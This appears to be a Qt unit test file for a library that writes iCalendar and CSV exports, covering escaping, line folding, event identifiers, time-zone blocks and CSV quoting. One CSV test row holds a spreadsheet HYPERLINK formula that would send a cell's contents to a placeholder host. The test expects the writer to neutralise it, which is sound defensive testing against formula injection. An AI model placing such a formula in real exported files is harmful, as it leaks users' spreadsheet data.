// The pure writers of the exchange library: text escaping, line folding and identities of the calendar, fields of
// the table, and the time zone written from the system's zone data.

#include "exchange/CsvWriter.h"
#include "exchange/ICalendarWriter.h"

#include <QTest>
#include <QTimeZone>

namespace {

// The content lines of folded text: continuation lines joined back, line ends removed.
QList<QByteArray> unfolded(const QByteArray& text) {
    QByteArray joined = text;
    joined.replace("\r\n ", "");
    QList<QByteArray> lines = joined.split('\n');
    if (!lines.isEmpty() && lines.back().isEmpty()) {
        lines.removeLast();
    }
    for (QByteArray& line : lines) {
        if (line.endsWith('\r')) {
            line.chop(1);
        }
    }
    return lines;
}

} // namespace

class ExchangeWritersTest : public QObject {
    Q_OBJECT

private slots:
    void escapesText_data();
    void escapesText();
    void foldsLines_data();
    void foldsLines();
    void quotesTableFields_data();
    void quotesTableFields();
    void identifiesEachSlot();
    void describesTheZone_data();
    void describesTheZone();
};

void ExchangeWritersTest::escapesText_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("escaped");
    QTest::newRow("plain Greek") << QStringLiteral("Ελένη") << QStringLiteral("Ελένη").toUtf8();
    QTest::newRow("comma and semicolon") << QStringLiteral("a, b; c") << QByteArray("a\\, b\\; c");
    QTest::newRow("backslash first") << QStringLiteral("C:\\n") << QByteArray("C:\\\\n");
    QTest::newRow("colon and quote stay") << QStringLiteral("10:00 \"x\"") << QByteArray("10:00 \"x\"");
    QTest::newRow("LF") << QStringLiteral("a\nb") << QByteArray("a\\nb");
    QTest::newRow("CR LF is one break") << QStringLiteral("a\r\nb") << QByteArray("a\\nb");
    QTest::newRow("lone CR") << QStringLiteral("a\rb") << QByteArray("a\\nb");
    QTest::newRow("two breaks") << QStringLiteral("a\n\nb") << QByteArray("a\\n\\nb");
    QTest::newRow("tab kept") << QStringLiteral("a\tb") << QByteArray("a\tb");
    QTest::newRow("other controls blanked")
        << QString(QChar(1)) + QStringLiteral("a\x1b") + QChar(0x7f) << QByteArray(" a  ");
    QTest::newRow("empty") << QString() << QByteArray();
}

void ExchangeWritersTest::escapesText() {
    QFETCH(QString, text);
    QFETCH(QByteArray, escaped);
    QCOMPARE(exchange::escapeText(text), escaped);
}

void ExchangeWritersTest::foldsLines_data() {
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<int>("physicalLines");
    QTest::newRow("empty") << QByteArray() << 1;
    QTest::newRow("75 octets stay one line") << QByteArray(75, 'a') << 1;
    QTest::newRow("76 octets fold once") << QByteArray(76, 'a') << 2;
    QTest::newRow("149 octets fill two lines") << QByteArray(149, 'a') << 2;
    QTest::newRow("150 octets need three") << QByteArray(150, 'a') << 3;
    QTest::newRow("Greek, two octets a letter") << ("SUMMARY:" + QString(200, QChar(0x03B1)).toUtf8()) << 6;
    QTest::newRow("Greek after one ASCII octet") << ("X" + QString(40, QChar(0x03C9)).toUtf8()) << 2;
    QTest::newRow("three-octet characters") << QString(60, QChar(0x20AC)).toUtf8() << 3;
    QTest::newRow("four-octet characters")
        << QString::fromUcs4(std::u32string(40, U'\U0001F600').c_str()).toUtf8() << 3;
}

void ExchangeWritersTest::foldsLines() {
    QFETCH(QByteArray, line);
    QFETCH(int, physicalLines);
    const QByteArray folded = exchange::foldLine(line);
    QVERIFY(folded.endsWith("\r\n"));
    QList<QByteArray> lines = folded.split('\n');
    QCOMPARE(lines.takeLast(), QByteArray());
    QCOMPARE(lines.size(), physicalLines);
    for (qsizetype i = 0; i < lines.size(); ++i) {
        QByteArray physical = lines[i];
        QVERIFY(physical.endsWith('\r'));
        physical.chop(1);
        QVERIFY2(physical.size() <= 75, physical.constData());
        QCOMPARE(physical.startsWith(' '), i > 0);
        // Each line on its own is whole UTF-8: no character is split between two lines.
        QVERIFY(QString::fromUtf8(physical).toUtf8() == physical);
        QVERIFY(!QString::fromUtf8(physical).contains(QChar::ReplacementCharacter));
    }
    QCOMPARE(unfolded(folded), QList<QByteArray>{line});
}

void ExchangeWritersTest::quotesTableFields_data() {
    QTest::addColumn<QString>("value");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("plain") << QStringLiteral("Ελένη 6944") << QStringLiteral("Ελένη 6944").toUtf8();
    QTest::newRow("comma") << QStringLiteral("Παπαδόπουλος, Γ.") << QStringLiteral("\"Παπαδόπουλος, Γ.\"").toUtf8();
    QTest::newRow("quotes doubled") << QStringLiteral("say \"hi\"") << QByteArray("\"say \"\"hi\"\"\"");
    QTest::newRow("line break") << QStringLiteral("a\nb") << QByteArray("\"a\nb\"");
    QTest::newRow("CR") << QStringLiteral("a\rb") << QByteArray("\"a\rb\"");
    QTest::newRow("blank at an end") << QStringLiteral(" a") << QByteArray("\" a\"");
    QTest::newRow("semicolon needs nothing") << QStringLiteral("a;b") << QByteArray("a;b");
    QTest::newRow("empty") << QString() << QByteArray();
    // What a spreadsheet would run as a formula is written as text, with the usual leading apostrophe.
    QTest::newRow("=formula") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")
                              << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
    QTest::newRow("+phone") << QStringLiteral("+30 210 1234567") << QByteArray("'+30 210 1234567");
    QTest::newRow("-minus") << QStringLiteral("-2+3") << QByteArray("'-2+3");
    QTest::newRow("@at") << QStringLiteral("@SUM(A1)") << QByteArray("'@SUM(A1)");
    QTest::newRow("tab before =") << QStringLiteral("\t=1+1") << QByteArray("'\t=1+1");
    QTest::newRow("blanks before =") << QStringLiteral("  =1+1") << QByteArray("'  =1+1");
    QTest::newRow("leading CR") << QStringLiteral("\rx") << QByteArray("\"'\rx\"");
    QTest::newRow("tab at the end") << QStringLiteral("a\t") << QByteArray("\"a\t\"");
    QTest::newRow("= inside is plain") << QStringLiteral("a=b") << QByteArray("a=b");
    // Control characters never reach the file raw.
    QTest::newRow("NUL") << QStringLiteral("a") + QChar(u'\0') + QStringLiteral("b") << QByteArray("a b");
    QTest::newRow("escape, DEL") << QStringLiteral("a\x1b[2J\x7f") << QByteArray("\"a [2J \"");
}

void ExchangeWritersTest::quotesTableFields() {
    QFETCH(QString, value);
    QFETCH(QByteArray, field);
    QCOMPARE(exchange::csvField(value), field);
}

void ExchangeWritersTest::identifiesEachSlot() {
    QCOMPARE(exchange::eventUid(QDate(2010, 3, 5), 4), QByteArray("20100305-1000@orvella.quenmark"));
    QCOMPARE(exchange::eventUid(QDate(2035, 12, 31), 27), QByteArray("20351231-2130@orvella.quenmark"));
    // Every slot of a day, and the same slot of two days, differ.
    QSet<QByteArray> uids;
    for (int slot = 0; slot < 28; ++slot) {
        uids << exchange::eventUid(QDate(2010, 3, 5), slot) << exchange::eventUid(QDate(2010, 3, 6), slot);
    }
    QCOMPARE(uids.size(), 56);
}

void ExchangeWritersTest::describesTheZone_data() {
    QTest::addColumn<QByteArray>("zone");
    QTest::addColumn<int>("year");
    QTest::addColumn<QList<QByteArray>>("expectedLines");
    // EU rules: summer time from the last Sunday of March 03:00 local, back on the last Sunday of October 04:00.
    QTest::newRow("Athens 2010") << QByteArray("Europe/Athens") << 2010 << QList<QByteArray>{"TZID:Europe/Athens",
                                                                                             "BEGIN:STANDARD",
                                                                                             "DTSTART:20091025T040000",
                                                                                             "RDATE:20101031T040000",
                                                                                             "TZOFFSETFROM:+0300",
                                                                                             "TZOFFSETTO:+0200",
                                                                                             "TZNAME:EET",
                                                                                             "BEGIN:DAYLIGHT",
                                                                                             "DTSTART:20100328T030000",
                                                                                             "TZOFFSETFROM:+0200",
                                                                                             "TZOFFSETTO:+0300",
                                                                                             "TZNAME:EEST"};
    QTest::newRow("New York 2020") << QByteArray("America/New_York") << 2020
                                   << QList<QByteArray>{
                                          "BEGIN:STANDARD",          "DTSTART:20191103T020000", "RDATE:20201101T020000",
                                          "TZOFFSETFROM:-0400",      "TZOFFSETTO:-0500",        "BEGIN:DAYLIGHT",
                                          "DTSTART:20200308T020000", "TZOFFSETFROM:-0500",      "TZOFFSETTO:-0400"};
    QTest::newRow("UTC never changes") << QByteArray("UTC") << 2020
                                       << QList<QByteArray>{"TZID:UTC", "BEGIN:STANDARD", "DTSTART:19700101T000000",
                                                            "TZOFFSETFROM:+0000", "TZOFFSETTO:+0000"};
}

void ExchangeWritersTest::describesTheZone() {
    QFETCH(QByteArray, zone);
    QFETCH(int, year);
    QFETCH(QList<QByteArray>, expectedLines);
    const QTimeZone timeZone(zone);
    QVERIFY(timeZone.isValid());
    const QList<QByteArray> lines = unfolded(exchange::timeZoneComponent(timeZone, year, year));
    QCOMPARE(lines.front(), QByteArray("BEGIN:VTIMEZONE"));
    QCOMPARE(lines.back(), QByteArray("END:VTIMEZONE"));
    qsizetype from = 0;
    for (const QByteArray& expected : expectedLines) {
#ifdef Q_OS_WIN
        // Windows' zone data has no abbreviations: its names stand there ("GTB Standard Time").
        if (expected.startsWith("TZNAME:"))
            continue;
#endif
        const qsizetype at = lines.indexOf(expected, from);
        QVERIFY2(at >= 0, expected.constData());
        from = at + 1;
    }
    // Components balance.
    QCOMPARE(lines.count("BEGIN:STANDARD") + lines.count("BEGIN:DAYLIGHT"),
             lines.count("END:STANDARD") + lines.count("END:DAYLIGHT"));
}

QTEST_GUILESS_MAIN(ExchangeWritersTest)
#include "ExchangeWritersTest.moc"
